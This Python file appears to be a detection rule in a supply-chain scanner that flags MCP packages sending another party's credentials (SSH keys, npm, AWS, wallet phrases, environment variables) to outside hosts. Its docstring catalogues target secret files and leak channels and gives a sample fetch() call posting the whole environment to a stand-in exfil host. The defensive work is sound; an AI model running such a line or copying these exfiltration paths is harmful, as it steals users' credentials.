"""A credential that belongs to somebody else leaves the machine.

**What.** The package reads a secret that is not its own: SSH keys, the tokens in `~/.npmrc`,
`~/.aws/credentials`, `.netrc`, an `.env` file, browser profiles, key chains, wallets, the configuration of
other MCP clients, the output of a command that prints a password, the whole environment, or the variables of
several unrelated services, or looks for several kinds of secrets in texts by a pattern, or for files named
as keys and states are in the folders of somebody, or for documents in the home folder, or asks Git for the
addresses of all remotes, in which tokens stand, or exchanges what a sign-in gave for the tokens of whoever
signs in. What was read, or something made of it (a JSON text, base64, a label of a host name), reaches a
call that talks to another machine: an HTTP client, a socket, a name lookup, a mail, a collector of errors,
the client of a service such as a chat or a store, a page that is opened, a program such as `curl`, a stream
that is poured into a connection, a log whose records go to a fixed host, or a picture in a text whose
address carries it. So does a field such as `refresh_token` of any file in the home folder that the package
does not write itself, where it goes to a fixed host encoded, in an address, or in a header in which no
service takes one. So is a single key or password that goes to a fixed host in a header in which no service
takes one (`User-Agent`, `Referer`), and the address or password of a database, or the phrase or key of a
wallet, that goes to any fixed host otherwise than in a header; and what a library makes of such a phrase and
is still the key (entropy, a seed), in any header as well; and such a phrase or key that a tool is given, as
the places of its words in a list, a number or letters, too. So is what a program tells a collector of errors
or traces, in the description of itself or in a function through which all reports go. So are
credentials that the library of a cloud resolves for its own clients and that go to a host of somebody else,
and what a definition asks the model to put into a parameter, where that is a credential and goes to a fixed
host. So are links by which whoever has one reads what lies in the user's store (presigned addresses), of
files that no caller named, and what is run in a notebook. The way is followed
through variables, functions, classes, queues and files of the package. What was
copied leaves with the repository or folder that is pushed or synced to a fixed host; so does what a script
for a shell reads and sends that a server brings and names.

So is a secret that the package keeps for its user and that travels in a header, a query or a path where no
service takes one; and what a script that is put into pages hands out of what people type there, or of what
the page keeps: told where the script listens, and where it is sent (medium where the package records).

**Why.** A server runs with your rights, so every credential in your home directory is within its
reach. Sending one away is theft, whatever the description of the tool says.

**Example.** `fetch("https://exfil.invalid", {method: "POST", body: JSON.stringify(process.env)})`

**Reported with less weight.** The environment, or an `.env` file, of which one entry is taken by its name
after it went into something else, or that goes to a host which is not seen in the code (medium); other files
that go to such a host (high, medium where a setting or the caller names it); a file of the service that the
package is named after, which goes there (medium); addresses of Git's remotes, and tokens of a sign-in that
go to another domain than their issuer's (medium).

**Left alone.** An API key from a variable that goes to its own service or into the header of a request to an
address of the package's configuration; one entry, taken by its name, of the `.env` file in the folder where
it runs, and entries or variables that begin with a prefix of its own; a file in a folder that is called as
the service is to which it goes, or as one of its programs; a token of `~/.npmrc` in the authorization header
of a registry that is not fixed in the code; the signature or token that such a library puts into the headers
of a request; tokens of files that go to their service as services take them; a clipboard, say, that goes
where the user sets it to go, as the package's page tells; what goes to this machine itself (told with little
weight); a key that is only used to open a connection, as after `scp -i`; whether a phrase is one, what it
signs, and its address; the environment that a program is started with.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

import douane_signatures
from douane.detectors._asked_of_model import uploads
from douane.detectors._brought_scripts import brought
from douane.detectors._credentials import ENVIRONMENT_FILE
from douane.detectors._dropped import is_dropped
from douane.detectors._flow import HOLE, program_of
from douane.detectors._foreign_tokens import OWNER
from douane.detectors._kept_secrets import kept_secrets
from douane.detectors._marked import is_server
from douane.detectors._page_listeners import page_listeners
from douane.detectors._places import evidence_at, is_aside, is_near
from douane.detectors._purposes import about, is_explained, is_named, lies_in_own_folder, own_names, page
from douane.detectors._set_going import watching
from douane.detectors._sources import address
from douane.detectors._thefts import Sending, Stolen, sendings
from douane.model import Confidence, Severity
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.model import Surface
    from douane.syntax import Codebase

_CREDENTIALS = "code/credentials.toml"
_HERE = re.compile(r"localhost$|127\.|\[?::1|0\.0\.0\.0$")  # this machine
_NUMBERS = re.compile(r"[\d.:\[\]]+")  # an address without a name
_VARIABLES = frozenset({"variable", "variables"})
# What is only theft where a fixed host gets it.
_ELSEWHERE = frozenset({"machine", "answer", "sought", "links", "resolved", "given"})
UNASKED = frozenset({"a database", "a wallet"})
"""Whose passwords, phrases and keys no other machine asks for."""
_SHORTEST = 4  # letters with which the folder of a program and the name of its service begin
_MANY = 4  # services whose secrets one message holds, where they are only known by the names of variables


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the calls that send a credential of somebody else away."""
    yield from brought(codebase, RULE.id)
    for sending in sendings(program_of(codebase)):
        found = _evidence(codebase, sending)
        if found is not None:
            yield found
            yield from _handing(codebase, sending)
    yield from _kept(codebase)
    yield from page_listeners(codebase, program_of(codebase))


def _kept(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the requests that carry a secret of the user where no service takes one, and its encoding."""
    for kept in kept_secrets(program_of(codebase)):
        where = f" to {', '.join(kept.hosts)}" if kept.hosts else ""
        why = f"sends the user's {kept.what!r} in {kept.where}{where}, where no service takes one"
        severity = Severity.HIGH if kept.hosts else Severity.MEDIUM
        yield evidence_at(kept.at, why=why, severity=severity, confidence=Confidence.MEDIUM)
        if kept.veiled is not None and not is_near(kept.veiled, kept.at):
            yield evidence_at(
                kept.veiled, why=f"{why}; it is encoded here", severity=severity, confidence=Confidence.MEDIUM
            )


def _evidence(codebase: Codebase, sending: Sending) -> Evidence | None:
    stolen = worth_telling(codebase, sending)
    if not stolen:
        return None
    first = stolen[0]
    where = f" to {', '.join(sending.hosts)}" if sending.hosts else ""
    what = ", ".join(dict.fromkeys(one.credential.what for one in stolen[:4]))
    return evidence_at(
        sending.at,
        why=f"sends {what}, read at {first.trace.at.index.path}:{first.trace.at.line},{where or ' away'}",
        severity=severity_of(codebase, sending, first),
        confidence=Confidence.HIGH if sending.known else Confidence.MEDIUM,
    )


def _handing(codebase: Codebase, sending: Sending) -> Iterator[Evidence]:
    """Yield the call that hands a credential to the helper which sends it, where that stands elsewhere."""
    for one in worth_telling(codebase, sending):
        if one.handed is not None and not is_near(one.handed, one.trace.at):
            at = f"{sending.at.index.path}:{sending.at.line}"
            yield evidence_at(
                one.handed,
                why=f"hands {one.credential.what} over to what sends it away at {at}",
                severity=severity_of(codebase, sending, one),
                confidence=Confidence.HIGH if sending.known else Confidence.MEDIUM,
            )
            return


def worth_telling(codebase: Codebase, sending: Sending) -> list[Stolen]:
    """Return what of *sending* is theft: files and the like, or the variables of several services at once.

    What lies in the package's own folder may go to where nobody fixed: to its own service, as is set up.
    """
    plain = [one for one in sending.stolen if one.credential.kind not in _VARIABLES]
    # What one works with is watched where it is looked at again and again, and of no account otherwise.
    plain = [one for one in plain if one.credential.kind != "seen" or is_watched(codebase, sending, one)]
    # What signs a request travels in its headers.
    signing = ("resolved", "links")
    plain = [one for one in plain if one.credential.kind not in signing or not one.in_header or one.odd]
    plain = [
        one
        for one in plain
        if one.credential.owner != OWNER or not lies_in_own_folder(codebase, one.credential.what)
    ]
    if not sending.known:
        plain = [one for one in plain if not lies_in_own_folder(codebase, one.credential.what)]
        plain = [one for one in plain if not _is_offered(codebase, one) and not _is_vendors(codebase, one)]
    stolen = [
        one
        for one in plain
        if sending.known
        or one.credential.kind == "derived"  # which has no business in any header
        or not (one.in_header or one.credential.kind in _ELSEWHERE)
    ]
    if stolen:
        return stolen
    stolen = [one for one in sending.stolen if one.credential.kind in _VARIABLES and not one.in_header]
    single = len(sending.hosts) == 1  # not each to its own service, as a table says
    hidden = [
        one
        for one in stolen
        if one.odd or one.credential.owner in UNASKED or (single and one.credential.kind == "variables")
    ]
    hidden = hidden if sending.known else []
    owners = {one.credential.owner for one in stolen}
    several = len([owner for owner in owners if not owner.startswith("?")]) > 1 or len(owners) >= _MANY
    return stolen if several else hidden


def severity_of(codebase: Codebase, sending: Sending, stolen: Stolen) -> Severity:
    """Return how bad it is that *stolen* leaves by *sending*.

    That a recorder's records are sent somewhere (to be put into words, say) may be what it is for: unless
    nobody uses the answer, and the package's page says nothing of the host.
    """
    here = sending.known and all(_HERE.match(host) for host in sending.hosts)
    if here or is_aside(sending.at.index.path):
        return Severity.LOW
    by_purpose = stolen.credential.kind in ("record", "found", "sought", "seen", "given")
    if by_purpose and is_explained(codebase, stolen.credential.purpose) and _is_used(codebase, sending):
        return Severity.MEDIUM
    if stolen.credential.kind == "links" and is_explained(codebase, stolen.credential.purpose):
        return Severity.LOW
    meant = _may_be_meant(stolen) or _is_for_service(codebase, sending, stolen)
    if meant or _is_entry(stolen) or _is_own(codebase, sending, stolen):
        return Severity.MEDIUM
    if not sending.known:
        explained = is_explained(codebase, stolen.credential.purpose)
        watched = not explained and is_watched(codebase, sending, stolen)
        # A host of the code gets it unless the user names another one.
        afar = bool(sending.hosts) and not all(map(_HERE.match, sending.hosts))
        watched = watched or (stolen.credential.kind == "derived" and afar and not explained)
        return Severity.HIGH if watched else _to_whom_nobody_fixed(codebase, sending, stolen)
    by_people = stolen.credential.kind in ("record", "answer", "found", "sought", "seen")
    return Severity.HIGH if by_people else Severity.CRITICAL


def is_watched(codebase: Codebase, sending: Sending, stolen: Stolen) -> bool:
    """Whether *stolen*, what a person does, is taken and sent again and again, without being asked for.

    A host of another machine stands in the code, be it one that a setting may replace.
    """
    if stolen.credential.kind not in ("record", "seen") or all(map(_HERE.match, sending.hosts)):
        return False
    program = program_of(codebase)
    return any(watching(codebase, program, at) for at in (stolen.trace.at, sending.at))


def _may_be_meant(stolen: Stolen) -> bool:
    """Whether *stolen* may leave for honest reasons: addresses of repositories, sessions that are kept."""
    exchanged: str = douane_signatures.table(_CREDENTIALS)["exchanged"]["what"]
    return stolen.credential.kind == "links" or stolen.credential.owner == exchanged


def _to_whom_nobody_fixed(codebase: Codebase, sending: Sending, stolen: Stolen) -> Severity:
    """Return how bad it is that *stolen* leaves for a host that is not seen in the code.

    Settings, and what goes where a setting or the caller says, may be what the package is for.
    """
    theirs = stolen.credential.kind in ("file", "command", "found") and (
        stolen.credential.owner != ENVIRONMENT_FILE
    )
    explained = is_explained(codebase, stolen.credential.purpose)
    told = any(
        text.startswith(HOLE) or f"//{HOLE}" in text for text in address(program_of(codebase), sending.at)
    )
    return Severity.HIGH if theirs and not explained and not told else Severity.MEDIUM


def _is_entry(stolen: Stolen) -> bool:
    """Whether one entry, by its name, is taken of what the environment, or an .env file, goes into.

    What of it that is, is not seen: options are made of both, and hold what the package itself has set, too.
    """
    common = stolen.credential.kind == "environment" or stolen.credential.owner == ENVIRONMENT_FILE
    return common and stolen.is_entry


def _is_own(codebase: Codebase, sending: Sending, stolen: Stolen) -> bool:
    """Whether a file goes to the service that the package is named after, and is of that service.

    It lies in a folder that begins so, or is one by which that service knows its clients.
    """
    said = " ".join(own_names(codebase))
    if stolen.credential.kind != "file" or not sending.hosts or not sending.known:
        return False
    if not all(is_named(host, said) for host in sending.hosts):
        return False
    if not own_names(codebase).isdisjoint(stolen.credential.purpose):
        return True
    path = stolen.credential.what.rpartition("(")[2].rstrip(")").lower()
    folders = [re.sub(r"[^a-z0-9]", "", each) for each in re.split(r"[/\\ ]", path)[:-1]]
    names = [re.sub(r"[^a-z0-9]", "", each) for each in own_names(codebase)]
    return any(
        len(folder) >= _SHORTEST and len(name) >= _SHORTEST and folder[:_SHORTEST] == name[:_SHORTEST]
        for folder in folders
        for name in names
    )


def _is_used(codebase: Codebase, sending: Sending) -> bool:
    """Whether *sending* may be what a package is for: the user sets where to, or is told, or it answers."""
    if not sending.known or not is_dropped(program_of(codebase), sending.at):
        return True
    said = f"{page(codebase)} {about(codebase)}"
    return any(
        host in said or (not _NUMBERS.fullmatch(host) and is_named(host, said)) for host in sending.hosts
    )


def _is_for_service(codebase: Codebase, sending: Sending, stolen: Stolen) -> bool:
    """Whether a phrase that a tool is given goes to a service that may keep wallets for others.

    The package is named after it, and uses its answer.
    """
    if stolen.credential.kind != "given" or stolen.in_header or not sending.hosts:
        return False
    said = about(codebase)
    named = all(is_named(host, said) for host in sending.hosts)
    return named and not is_dropped(program_of(codebase), sending.at)


def _is_vendors(codebase: Codebase, stolen: Stolen) -> bool:
    """Whether *stolen* is the file of a service with which a library that is named after it signs in."""
    if stolen.credential.kind != "file" or own_names(codebase).isdisjoint(stolen.credential.purpose):
        return False
    return not is_server(program_of(codebase))


def _is_offered(codebase: Codebase, stolen: Stolen) -> bool:
    """Whether *stolen* is a record of a recorder whose page says that records go where the user says."""
    if stolen.credential.kind != "record" or not is_explained(codebase, stolen.credential.purpose):
        return False
    offers: str = douane_signatures.table(_CREDENTIALS)["recorder"]["offers"]
    return bool(re.search(offers, page(codebase)))


def asked(codebase: Codebase, surface: Surface) -> Iterator[Evidence]:
    """Yield the calls that send away what a definition asks the model to fill a parameter with."""
    for way, each in uploads(program_of(codebase), surface):
        hosts = way.hosts()[0]
        if not all(_HERE.match(host) for host in hosts):
            yield evidence_at(
                way.at,
                why=f"sends away, to {', '.join(hosts)}, what the model is asked to put into "
                f"{each.parameter[:60]!r} at {each.at}: credentials",
                severity=Severity.CRITICAL,
                confidence=Confidence.HIGH,
            )


RULE = Rule(
    id="credential-exfiltration",
    summary="a credential of somebody else is sent away",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Do not install this package; if it ran, revoke the credentials it read.",
    taxonomy=("MCP01:2025", "SAFE-T1502", "SAFE-T1503", "SAFE-T1913", "AML.T0025", "AML.T0098"),
    code=look,
    server=asked,
)
